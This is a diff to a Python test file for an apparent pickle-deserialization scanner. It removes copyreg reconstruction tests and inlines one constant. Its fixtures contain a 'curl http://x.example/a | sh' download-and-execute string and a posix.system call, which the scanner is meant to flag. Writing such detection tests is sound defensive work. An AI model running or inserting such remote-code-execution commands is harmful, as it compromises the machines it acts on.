@@ -97,52 +97,6 @@ def test_persistent_id_of_a_storage_is_allowed_in_a_checkpoint_only() -> None:
     assert [found.subject for found in judged(text("x"), b"Q", torch=True)] == ["a persistent id"]
 
 
-RECONSTRUCT = ("copyreg", "_reconstructor")
-NAMESPACE = fetch("argparse", "Namespace")
-OBJECT, DICT, BYTES = fetch("builtins", "object"), fetch("builtins", "dict"), fetch("builtins", "bytes")
-
-
-@pytest.mark.parametrize(
-    ("parts", "opinion"),
-    [
-        ((call(*RECONSTRUCT, NAMESPACE, OBJECT, text("x")),), Opinion.MISUSED),
-        ((call(*RECONSTRUCT, NAMESPACE, BYTES, number(1 << 30)),), Opinion.MISUSED),
-        ((call(*RECONSTRUCT, NAMESPACE, DICT, EMPTY_DICT + text("k") + NONE + b"s"),), Opinion.MISUSED),
-        ((call(*RECONSTRUCT, fetch("mylib", "Net"), BYTES, text("curl http://x.example/a|sh")),),
-         Opinion.SUSPICIOUS),
-        ((call(*RECONSTRUCT, NAMESPACE, OBJECT),), Opinion.MISUSED),
-        ((call("copyreg", "__newobj__", NAMESPACE, text("x")),), Opinion.MISUSED),
-        ((call("copyreg", "__newobj_ex__", NAMESPACE, tup(text("x")), EMPTY_DICT),), Opinion.MISUSED),
-        ((call("copyreg", "__newobj_ex__", NAMESPACE, EMPTY_TUPLE, EMPTY_DICT + text("k") + NONE + b"s"),),
-         Opinion.MISUSED),
-        ((call("copyreg", "__newobj_ex__", fetch("builtins", "ValueError"), EMPTY_TUPLE,
-               EMPTY_DICT + text("k") + NONE + b"s"),), Opinion.MISUSED),
-        ((fetch("builtins", "ValueError"), EMPTY_TUPLE, EMPTY_DICT, text("k"), NONE, b"s\x92"),
-         Opinion.MISUSED),
-        ((call("copyreg", "__newobj_ex__", NAMESPACE),), Opinion.MISUSED),
-    ],
-)  # fmt: skip
-def test_what_copyreg_is_told_to_make_is_judged_with_all_that_it_is_given(
-    parts: tuple[bytes, ...], opinion: Opinion
-) -> None:
-    assert [found.opinion for found in judged(*parts)][-1] is opinion
-
-
-@pytest.mark.parametrize(
-    "parts",
-    [
-        (call(*RECONSTRUCT, NAMESPACE, OBJECT, NONE),),
-        (call(*RECONSTRUCT, fetch("sklearn.utils", "Bunch"), DICT, EMPTY_DICT + text("k") + NONE + b"s"),),
-        (call(*RECONSTRUCT, fetch("torch.torch_version", "TorchVersion"), fetch("builtins", "str"),
-              text("2.1")),),
-        (call("copyreg", "__newobj_ex__", NAMESPACE, EMPTY_TUPLE, EMPTY_DICT),),
-        (NAMESPACE, EMPTY_TUPLE, EMPTY_DICT, b"\x92"),
-    ],
-)  # fmt: skip
-def test_near_miss_what_python_writes_for_copyreg(parts: tuple[bytes, ...]) -> None:
-    assert judged(*parts) == []
-
-
 def test_pickle_given_by_name_is_handed_on() -> None:
     given = EMPTY_DICT + text("data") + data(b"\x80\x04N.") + b"s"
     _, events = run(pickle(fetch("mylib", "Net"), EMPTY_TUPLE, given, b"\x92"))
@@ -170,7 +124,10 @@ def test_obj_and_inst_call_a_class_if_there_are_arguments(parts: tuple[bytes, ..
     ("parts", "allowed"),
     [
         ((call("mylib", "Net"),), True),
-        ((call(*RECONSTRUCT, fetch("mylib", "Net"), OBJECT, NONE),), True),
+        (
+            (call("copyreg", "_reconstructor", fetch("mylib", "Net"), fetch("builtins", "object"), NONE),),
+            True,
+        ),
         ((call("mylib", "Net", text("curl http://x.example/a | sh")),), False),
         ((call("mylib", "Other"),), False),
         ((call("posix", "system", text("id")),), False),
